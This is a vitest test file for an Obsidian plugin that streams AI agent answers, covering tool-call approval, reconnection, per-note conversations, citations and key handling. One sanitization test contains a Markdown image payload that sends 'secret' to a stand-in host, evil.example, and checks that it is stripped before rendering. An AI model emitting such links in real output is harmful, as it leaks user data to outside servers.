import { DropdownComponent, MarkdownView, Notice, WorkspaceLeaf } from "obsidian-test-mocks/obsidian";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";

import { TurnwireSettingTab } from "../src/settings-tab";
import { gate, get, open, type Obsidian, Pane, post, script, SERVER, startObsidian, type Step, until, Wire } from "./pane";
import { rendered } from "./setup";

let obsidian: Obsidian;
let pane: Pane;

async function start(files?: Record<string, string>, stored?: Record<string, unknown>): Promise<void> {
  obsidian = await startObsidian(files, stored);
  pane = await Pane.open(obsidian);
}

afterEach(async () => {
  await pane?.close();
  obsidian?.plugin.unload();
  vi.restoreAllMocks();
});

describe("an answer", () => {
  beforeEach(() => start());

  it("shows steps and tokens live, then the answer as Markdown", async () => {
    const [searching, writing, ending] = [gate(), gate(), gate()];
    rendered.length = 0;
    await pane.ask(
      script(
        ["think", "Where might it be?"],
        ["call", "search_vault", { query: "rocket" }],
        ["wait", searching],
        ["result", "search_vault"],
        ["say", "It **launches** on Friday.\n\nThat is "],
        ["wait", writing],
        ["say", "soon."],
        ["wait", ending],
      ),
    );
    await pane.says("Searching the vault for “rocket”");
    expect(pane.find(".turnwire-step").classList.contains("is-running")).toBe(true);
    const [reasoning] = pane.all("details").filter((element) => element.textContent.startsWith("Reasoning"));
    expect([reasoning?.textContent, reasoning?.hasAttribute("open")]).toEqual(["ReasoningWhere might it be?", false]);
    await open(searching);
    await pane.shows("That is ");
    await pane.says("Writing the answer…");
    expect(rendered).toEqual(["It **launches** on Friday.\n\n"]);
    expect(pane.find(".turnwire-answer .turnwire-tail").textContent).toBe("That is ");
    await open(writing);
    await pane.shows("That is soon.");
    expect(pane.find(".turnwire-step").classList.contains("is-succeeded")).toBe(true);
    await open(ending);
    await pane.isDone();
    expect(rendered.at(-1)).toBe("It **launches** on Friday.\n\nThat is soon.");
    expect(pane.all(".turnwire-blocks p").map((element) => element.textContent)).toEqual([
      "It **launches** on Friday.",
      "That is soon.",
    ]);
  });

  it("shows the error and keeps the partial answer", async () => {
    await pane.ask(script(["say", "So far so good"], ["fail", "The oven is on fire."]));
    await pane.isDone();
    expect(pane.find("[role=alert]").textContent).toBe("The oven is on fire.");
    expect(pane.answer).toBe("So far so good");
  });

  it("follows a message that was refused, and replaces its problem", async () => {
    obsidian.plugin.settings.agent = "nobody";
    await pane.ask("Hello");
    await pane.says("nobody");
    obsidian.plugin.settings.agent = "play";
    await pane.ask(script(["say", "Here"]));
    await pane.isDone();
    expect(pane.answer).toBe("Here");
  });

  it("stops on the server", async () => {
    const never = gate();
    await pane.ask(script(["say", "One "], ["wait", never], ["say", "two"]));
    await pane.shows("One ");
    pane.button("Stop").click();
    await pane.isDone();
    expect(pane.answer).toBe("One ");
    expect(pane.find(".turnwire-turn").textContent).toContain("Stopped.");
    const session = obsidian.plugin.settings.sessions[""];
    expect((await get(`/v1/sessions/${session}`)).turns[0].outcome).toBe("cancelled");
  });

  it("requests approval with the exact arguments", async () => {
    const args = { path: "Notes/New.md", content: "- <b>one</b>\n- two" };
    await pane.ask(script(["ask", "create_note", args], ["say", "Done."]));
    await pane.says("Waiting for your decision");
    const shown = pane.all(".turnwire-argument").map((element) => element.textContent);
    expect(shown).toEqual([args.path, args.content]);
    expect(pane.all(".turnwire-argument b")).toEqual([]);
    pane.button("Allow").click();
    await pane.isDone();
    expect(pane.answer).toBe("allowed Done.");
    expect(pane.all(".turnwire-approval")).toEqual([]);
    await pane.ask(script(["ask", "create_note", args], ["say", "Done."]));
    await until(() => pane.button("Deny").click());
    await pane.shows("denied Done.");
  });

  it("continues while the pane is closed, and is live when it is reopened", async () => {
    const [closed, live, end] = [gate(), gate(), gate()];
    await pane.ask(
      script(["say", "One "], ["wait", closed], ["say", "two "], ["wait", live], ["say", "three "], ["wait", end], ["say", "four"]),
    );
    await pane.shows("One ");
    await pane.close();
    await open(closed);
    pane = await Pane.open(obsidian);
    await pane.shows("One two ");
    await open(live);
    await pane.shows("One two three ");
    await pane.close();
    await open(end);
    const session = obsidian.plugin.settings.sessions[""];
    await until(async () => expect((await get(`/v1/sessions/${session}`)).turns[0].outcome).toBe("completed"));
    pane = await Pane.open(obsidian);
    await pane.isDone();
    expect(pane.answer).toBe("One two three four");
    expect(pane.all(".turnwire-turn").length).toBe(1);
  });

  it("is sanitized before Obsidian renders it, in blocks and complete", async () => {
    const wait = gate();
    rendered.length = 0;
    await pane.ask(script(["say", "![x](https://evil.example/?q=secret)\n\n<img src=x>"], ["wait", wait]));
    await pane.shows("<img src=x>");
    await open(wait);
    await pane.isDone();
    expect(rendered.length).toBe(2);
    for (const markdown of rendered) expect(markdown).not.toMatch(/!\[|<img/);
  });

  it("is shown live if another client started the turn", async () => {
    await pane.ask(script(["say", "Hello"]));
    await pane.isDone();
    const wait = gate();
    const session_id = obsidian.plugin.settings.sessions[""];
    const response = post("/chat", { message: script(["say", "From afar"], ["wait", wait]), agent: "play", session_id });
    await pane.shows("From afar");
    expect(pane.all(".turnwire-turn").length).toBe(2);
    await open(wait);
    await response;
    await pane.isDone();
  });

  it("is queued while another turn runs", async () => {
    const wait = gate();
    await pane.ask(script(["say", "First"], ["wait", wait]));
    await pane.shows("First");
    await pane.ask(script(["say", "Second"]));
    await until(() => expect(pane.all(".turnwire-turn").length).toBe(2));
    expect(pane.all(".turnwire-answer").at(-1)!.textContent).toBe("");
    await open(wait);
    await pane.shows("Second");
    await pane.isDone();
  });
});

describe("the connection", () => {
  it("is to the address in the empty field", async () => {
    await start();
    obsidian.plugin.settings.url = "";
    expect(obsidian.plugin.linkOptions().url).toBe("http://127.0.0.1:8420");
  });

  it("is restored without losing or repeating events", async () => {
    const wire = await Wire.lay();
    await start({}, { url: wire.url });
    const gates = [gate(), gate(), gate(), gate()];
    await pane.ask(script(...gates.flatMap((name, n): Step[] => [["say", `${n} `], ["wait", name]]), ["say", "end"]));
    for (const [n, name] of gates.entries()) {
      await pane.shows(`${n} `);
      await wire.cut();
      await open(name);
    }
    await pane.shows("end");
    await pane.isDone();
    expect(pane.answer).toBe("0 1 2 3 end");
    await wire.cut({ stay: true });
  });

  it("is reported as lost, and later events are shown after it returns", async () => {
    const wire = await Wire.lay();
    await start({}, { url: wire.url });
    const wait = gate();
    await pane.ask(script(["say", "One "], ["wait", wait], ["say", "two"]));
    await pane.shows("One ");
    await wire.cut({ stay: true });
    await pane.says("Connection lost");
    await open(wait);
    await wire.mend();
    await pane.shows("One two");
    await pane.isDone();
    await wire.cut({ stay: true });
  });

  it("is retried when the server was unreachable at start, and keeps the typed text", async () => {
    const wire = await Wire.lay();
    await wire.cut({ stay: true });
    obsidian = await startObsidian({}, { url: wire.url });
    pane = await Pane.open(obsidian);
    await pane.says("The server cannot be reached");
    await wire.mend();
    await pane.ask(script(["say", "Here"]));
    await pane.shows("Here");
    await wire.cut({ stay: true });
  });

  it("falls back to polling, with a notice, if the server does not allow Obsidian's origin", async () => {
    const streams = vi.spyOn(globalThis, "fetch").mockRejectedValue(new TypeError("Failed to fetch"));
    await start();
    await pane.isReady();
    expect(pane.find(".turnwire-notice").textContent).toContain("Obsidian cannot stream from this server");
    streams.mockRestore();
    const wait = gate();
    await pane.ask(script(["call", "read_note", { path: "A.md" }], ["wait", wait], ["result", "read_note"], ["say", "Read."]));
    await pane.says("Reading A.md");
    await open(wait);
    await pane.isDone();
    expect(pane.answer).toBe("Read.");
  });

  it("can be tested in the settings", async () => {
    await start();
    const tab = new TurnwireSettingTab(obsidian.app.asOriginalType__(), obsidian.plugin);
    expect(await tab.test()).toBe("Connected: answers are streamed. Agents: play, gate, vault.");
    obsidian.plugin.settings = { ...obsidian.plugin.settings, agent: "nobody" };
    expect(await tab.test()).toContain("there is no agent “nobody”");
    obsidian.plugin.settings = { ...obsidian.plugin.settings, url: `${SERVER}/elsewhere` };
    expect(await tab.test()).toContain("Not connected");
    tab.display();
    expect(tab.containerEl.textContent).toContain("Test connection");
  });

  it("offers the server's agents in the settings, with and without definitions", async () => {
    await start();
    const tab = new TurnwireSettingTab(obsidian.app.asOriginalType__(), obsidian.plugin);
    const names = tab.getSettingDefinitions().map((definition) => "name" in definition && definition.name);
    expect(names).toEqual(["Server", "Key", "Agent", "Conversation", "Name the note", "Connection"]);
    const chosen = vi.spyOn(DropdownComponent.prototype, "onChange");
    tab.display();
    for (const name of names) expect(tab.containerEl.textContent).toContain(name);
    const list = tab.containerEl.querySelector("select") as HTMLSelectElement;
    await until(() => expect([...list.options].map((option) => option.value)).toEqual(["", "play", "gate", "vault"]));
    expect(list.value).toBe("play");
    chosen.mock.calls[0]?.[0]("vault");
    expect(obsidian.plugin.settings.agent).toBe("vault");
  });

  it("sends the key to the server only, and keeps it out of the vault", async () => {
    obsidian = await startObsidian({}, { secret: "turnwire-key" });
    obsidian.app.secretStorage.setSecret("turnwire-key", "twk_sesame");
    const fetched = vi.spyOn(globalThis, "fetch");
    pane = await Pane.open(obsidian);
    await pane.ask(script(["say", "Hello"]));
    await pane.isDone();
    const headers = fetched.mock.calls.map(([, init]) => (init?.headers as Record<string, string>)["Authorization"]);
    expect(new Set(headers)).toEqual(new Set(["Bearer twk_sesame"]));
    expect(JSON.stringify(await obsidian.plugin.loadData())).not.toContain("sesame");
  });
});

describe("conversations", () => {
  const files = { "A.md": "a", "Folder/B.md": "b" };

  it("belong to notes, move with them, and name them once", async () => {
    await start(files, { scope: "note" });
    const look = async (path: string): Promise<void> => {
      const file = obsidian.app.vault.getFileByPath(path);
      vi.spyOn(obsidian.app.workspace, "getActiveFile").mockReturnValue(file);
      obsidian.app.workspace.trigger("file-open", file);
      await until(() => expect(pane.button("Send").disabled).toBe(false));
    };
    await look("A.md");
    await pane.ask(script(["say", "About A"]));
    await pane.isDone();
    expect(pane.find(".turnwire-question").textContent).toMatch(/^About the note “A.md”: /);
    await pane.ask(script(["say", "Still A"]));
    await pane.shows("Still A");
    expect(pane.all(".turnwire-question").at(-1)!.textContent).toMatch(/^\[\[/);
    await look("Folder/B.md");
    await until(() => expect(pane.all(".turnwire-turn").length).toBe(0));
    await pane.ask(script(["say", "About B"]));
    await pane.isDone();
    const session = obsidian.plugin.settings.sessions["Folder/B.md"];
    vi.spyOn(obsidian.app.workspace, "getLeavesOfType").mockReturnValue([pane.leaf]);
    await obsidian.app.vault.rename(obsidian.app.vault.getFileByPath("Folder/B.md")!, "Folder/C.md");
    await until(() => expect(obsidian.plugin.settings.sessions).toHaveProperty(["Folder/C.md"], session));
    expect(pane.find(".turnwire-title").textContent).toBe("C");
    await pane.ask(script(["say", "About C"]));
    await pane.shows("About C");
    await pane.isDone();
    expect(Object.keys(obsidian.plugin.settings.sessions).sort()).toEqual(["A.md", "Folder/C.md"]);
    await look("A.md");
    await pane.shows("Still A");
    await look("Folder/C.md");
    await pane.shows("About C");
  });

  it("continue from another device", async () => {
    await start(files);
    const elsewhere = await startObsidian(files);
    const other = await Pane.open(elsewhere);
    await other.ask(script(["say", "From the phone"]));
    await other.isDone();
    await obsidian.plugin.saveData(await elsewhere.plugin.loadData());
    vi.spyOn(obsidian.app.workspace, "getLeavesOfType").mockReturnValue([pane.leaf]);
    await obsidian.plugin.onExternalSettingsChange();
    await pane.shows("From the phone");
    await other.close();
  });

  it("are started on request, and the old one stays on the server", async () => {
    await start(files);
    await pane.ask(script(["say", "Old"]));
    await pane.isDone();
    const session = obsidian.plugin.settings.sessions[""];
    pane.button("New conversation").click();
    await until(() => expect(pane.all(".turnwire-turn").length).toBe(0));
    await until(() => expect(pane.button("Send").disabled).toBe(false));
    await pane.ask(script(["say", "New"]));
    await pane.isDone();
    expect(obsidian.plugin.settings.sessions[""]).not.toBe(session);
    expect((await get(`/v1/sessions/${session}`)).turns.length).toBe(1);
  });
});

describe("citations", () => {
  const text = "# Plan\n\nIt is written.\n\nThe rocket launches\non Friday.\n";

  it("open the note at the passage", async () => {
    await start({ "Projects/Plan.md": text });
    await pane.ask(script(["say", "On Friday [1]."], ["cite", 1, "Projects/Plan.md", "The rocket launches on Friday."]));
    await pane.isDone();
    const leaf = WorkspaceLeaf.create2__(obsidian.app);
    const opened = vi.spyOn(leaf, "openFile");
    vi.spyOn(obsidian.app.workspace, "getLeaf").mockReturnValue(leaf);
    expect(pane.all(".turnwire-source").map((element) => element.textContent)).toEqual(["1 Plan"]);
    pane.find(".turnwire-marker").click();
    await until(() => expect(opened).toHaveBeenCalled());
    const [file, state] = opened.mock.calls[0]!;
    expect(file.path).toBe("Projects/Plan.md");
    const [from, to] = (state as any).eState.match.matches[0];
    expect(text.slice(from, to)).toBe("The rocket launches\non Friday.");
  });

  it("of the server's vault agent open notes of this vault", async () => {
    await start({ "Projects/Moon Rocket.md": "The rocket launches on Friday at noon." }, { agent: "vault" });
    await pane.ask("When does the rocket launch?");
    await pane.isDone();
    expect(pane.answer).toContain("The rocket launches on Friday at noon.");
    const leaf = WorkspaceLeaf.create2__(obsidian.app);
    const opened = vi.spyOn(leaf, "openFile");
    vi.spyOn(obsidian.app.workspace, "getLeaf").mockReturnValue(leaf);
    pane.find(".turnwire-source").click();
    await until(() => expect(opened.mock.calls[0]?.[0].path).toBe("Projects/Moon Rocket.md"));
  });

  it("of a missing note show a notice", async () => {
    await start();
    const notice = vi.spyOn(Notice.prototype, "constructor__");
    await pane.ask(script(["say", "On Friday [1]."], ["cite", 1, "Gone.md", "Gone."]));
    await pane.isDone();
    pane.find(".turnwire-marker").click();
    await until(() => expect(notice.mock.calls[0]?.[0]).toBe("“Gone.md” is not in this vault."));
  });
});

it("a link to a note opens the note", async () => {
  await start();
  await pane.ask(script(["say", "See this."]));
  await pane.isDone();
  const followed = vi.spyOn(obsidian.app.workspace, "openLinkText").mockResolvedValue();
  pane.find(".turnwire-blocks").createEl("a", { cls: "internal-link", attr: { "data-href": "Plan#Next" } }).click();
  expect(followed).toHaveBeenCalledWith("Plan#Next", "", false);
});

it("an answer can be copied, and inserted into the last used note", async () => {
  await start();
  await pane.ask(script(["say", "Take this."]));
  await pane.isDone();
  const copied: string[] = [];
  vi.stubGlobal("navigator", { clipboard: { writeText: async (text: string) => void copied.push(text) } });
  pane.button("Copy the answer").click();
  await until(() => expect(copied).toEqual(["Take this."]));
  vi.unstubAllGlobals();
  const leaf = WorkspaceLeaf.create2__(obsidian.app);
  const view = MarkdownView.create2__(leaf);
  await leaf.open(view.asOriginalType7__());
  const inserted = vi.spyOn(view.editor, "replaceSelection");
  vi.spyOn(obsidian.app.workspace, "getMostRecentLeaf").mockReturnValue(leaf);
  pane.button("Insert the answer into the note").click();
  expect(inserted).toHaveBeenCalledWith("Take this.");
});
